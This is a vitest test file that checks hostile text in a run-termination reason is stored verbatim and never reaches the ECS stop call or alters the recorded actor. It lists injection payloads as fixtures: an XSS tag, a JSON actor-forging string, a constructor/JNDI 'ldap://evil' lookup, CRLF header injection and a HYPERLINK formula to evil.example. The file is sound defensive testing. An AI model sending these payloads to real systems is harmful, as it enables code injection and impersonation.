import { describe, expect, it } from 'vitest';
import { takeStep } from '../../../functions/app/take-step.ts';
import { aWorld } from '../../support/world.ts';

const HOSTILE = [
  '<script>alert(1)</script>',
  '"}, "actor": "arn:aws:iam::000000000000:root',
  '{{constructor.constructor("return process")()}} ${jndi:ldap://evil}',
  'line\r\nset-cookie: evil=1\u0000\u001b[2J\u202e',
  '=HYPERLINK("https://evil.example")',
];

describe('hostile text in a reason', () => {
  it.each(HOSTILE)('stays text in the record, and never reaches ECS: %j', async (reason) => {
    const world = aWorld();
    const toldToEcs: string[] = [];
    const workers = {
      ...world.workers,
      stop: (...[worker, said]: Parameters<typeof world.workers.stop>) => {
        toldToEcs.push(said);
        return world.workers.stop(worker, said);
      },
    };
    const { runId } = await world.running();
    await world.terminate(runId, { reason });
    await takeStep({ ...world, workers }, { run_id: runId, hops: 0 });
    expect(toldToEcs).toEqual([`standdown run ${runId}`]);
    expect((await world.readRun(runId)).termination?.reason).toBe(reason);
    const events = await world.store.listEvents(runId, 0, 10);
    expect(events.find(({ kind }) => kind === 'termination_requested')?.payload).toMatchObject({
      reason,
      actor: 'arn:aws:iam::000000000000:user/ann',
    });
  });
});
